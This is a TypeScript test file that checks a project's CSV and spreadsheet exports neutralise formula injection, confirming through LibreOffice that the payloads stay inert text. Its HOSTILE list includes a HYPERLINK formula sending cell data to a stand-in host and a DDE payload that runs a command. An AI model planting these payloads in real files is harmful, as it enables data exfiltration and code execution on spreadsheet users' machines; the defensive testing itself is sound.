/**
 * Text an editor typed never runs as a formula in a manager's spreadsheet (OWASP CSV injection):
 * every CSV we write neutralises cells that start like a formula, and every workbook writes them as
 * text. Checked on the real files — parsed back, and opened by LibreOffice, which does run
 * `=40000+2` and `=HYPERLINK(…)` from a plain CSV (the first test shows it).
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { exportFiles } from '../../backend/services/exports';
import { ExportFileInput } from '../../backend/store/export-store';
import { seedProgramme } from '../../backend/services/seed';
import { ExcelJS } from '../../backend/xlsx/workbook';
import { loadSeedProgramme } from '../../seeds';
import { spreadsheetCsv } from '../../shared/csv';
import { call, depsFor, newStore } from '../helpers/server';
import { pdfPages, xlsxToPdf } from '../helpers/pdf';

/** What an attacker types where text goes: each would run in Excel or LibreOffice as is. */
const HOSTILE = {
  sum: '=40000+2',
  link: '=HYPERLINK("http://evil.example/?"&A1,"clic-aqui")',
  dde: "=cmd|' /C calc'!A0",
  plus: '+40000+3',
  minus: '-40000+4',
  at: '@SUM(40000,5)',
  tab: '\t=40000+6',
  cr: '\r=40000+7',
  space: ' =40000+8',
  lf: '\n+40000+9',
};

let dir: string;
beforeAll(() => (dir = mkdtempSync(path.join(os.tmpdir(), 'pat-formulas-'))));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Every word LibreOffice printed from the files. */
async function printedWords(files: string[]): Promise<string[]> {
  const pdfs = await xlsxToPdf(files, path.join(dir, 'pdf'));
  return pdfs.flatMap((pdf) => pdfPages(pdf).flatMap((page) => page.words.map((w) => w.text)));
}

describe('formula injection', () => {
  it('is real: LibreOffice runs a formula from a CSV cell written as is', async () => {
    const raw = path.join(dir, 'sin-neutralizar.csv');
    writeFileSync(raw, `a,b\r\n${HOSTILE.sum},"${HOSTILE.link.replace(/"/g, '""')}"\r\n`);
    const words = await printedWords([raw]);
    expect(words).toContain('40002');
    expect(words).toContain('clic-aqui');
  });

  it('every dangerous start gets an apostrophe; the rest of the text is kept', () => {
    const values = Object.values(HOSTILE);
    const text = spreadsheetCsv(
      values.map((v) => [v, `Texto normal ${v}`, 42]),
      ['a', 'b', 'n'],
    );
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.a)).toEqual(values.map((v) => `'${v.replace(/\r/g, '\n')}`));
    expect(rows.map((r) => r.b)).toEqual(
      values.map((v) => `Texto normal ${v.replace(/\r/g, '\n')}`),
    );
    expect(rows.map((r) => r.n)).toEqual(values.map(() => '42'));
  });

  it('the export set and the session report: CSVs neutralised, workbooks as text, nothing runs', async () => {
    const store = await newStore();
    const seed = loadSeedProgramme();
    const hostile = Object.values(HOSTILE);
    await seedProgramme(store, {
      ...seed,
      axes: seed.axes.map((a, i) => (i === 0 ? { ...a, name: HOSTILE.sum } : a)),
      activities: seed.activities.map((a, i) =>
        i < hostile.length ? { ...a, description: hostile[i]! } : a,
      ),
    });
    const deps = depsFor(store);
    const P = { programId: 'cvoe-2021' };
    const program = (await call(deps, 'getProgram', { params: P })).json;
    const patched = await call(deps, 'patchMonthStatus', {
      params: { ...P, activityId: '1.1', month: '1' },
      headers: { 'if-match': program.activities[0].statuses['1'].etag },
      body: { status: 'realizada', note: HOSTILE.dde },
    });
    expect(patched.status).toBe(200);

    // The day before the June session: the report joins the set.
    const files: ExportFileInput[] = [];
    for await (const file of exportFiles(store, 'cvoe-2021', '2021-06-20', 7)) files.push(file);
    expect(files.map((f) => f.name)).toEqual([
      'programa-cvoe-2021.xlsx',
      'actividades-cvoe-2021.csv',
      'sesiones-cvoe-2021.csv',
      'informe-sesion-06-cvoe-2021.xlsx',
      'informe-sesion-06-cvoe-2021.csv',
    ]);
    const report = await call(deps, 'getSessionReport', {
      params: { ...P, number: '6' },
      query: { format: 'csv' },
    });
    expect(report.status).toBe(200);

    // CSVs: every cell parses back to the apostrophe and the whole text; each carries a BOM.
    const csvs = [...files.filter((f) => f.name.endsWith('.csv')).map((f) => f.body), report.bytes];
    for (const body of csvs) {
      expect(body.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const cells = (parseCsv(body, { bom: true }) as string[][]).flat();
      expect(cells.filter((c) => /^\s*[=+\-@]/.test(c))).toEqual([]);
    }
    const activities = (parseCsv(files[1]!.body, { bom: true }) as string[][]).flat();
    // The whole text after the apostrophe (line breaks as LF).
    for (const text of hostile) expect(activities).toContain(`'${text.replace(/\r/g, '\n')}`);
    expect(activities).toContain(`'${HOSTILE.sum}`); // the axis name

    // Workbooks: the same texts as string cells, never formulas.
    for (const file of files.filter((f) => f.name.endsWith('.xlsx'))) {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(file.body as unknown as ArrayBuffer);
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            // A merged area's other cells point at its first one, which is checked.
            if (cell.type !== ExcelJS.ValueType.Merge && hostile.includes(cell.text.trim()))
              expect(cell.type).toBe(ExcelJS.ValueType.String);
            expect(cell.type === ExcelJS.ValueType.Formula && /40000/.test(cell.formula)).toBe(
              false,
            );
          }),
        ),
      );
    }

    // Opened by LibreOffice: the texts are printed as written, nothing was computed.
    const written = [...files.map((f) => f.name), 'informe-api.csv'].map((name, i) => {
      const file = path.join(dir, name);
      writeFileSync(file, i < files.length ? files[i]!.body : report.bytes);
      return file;
    });
    const words = await printedWords(written);
    const printed = words.join(' ');
    for (const computed of [
      '40002',
      '40003',
      '40004',
      '40005',
      '40006',
      '40007',
      '40008',
      '40009',
      'clic-aqui',
    ])
      expect(words).not.toContain(computed);
    expect(printed).toContain('40000+2');
    expect(readFileSync(written[1]!, 'utf8')).toContain(`'${HOSTILE.link.replace(/"/g, '""')}`);
  }, 120_000);
});
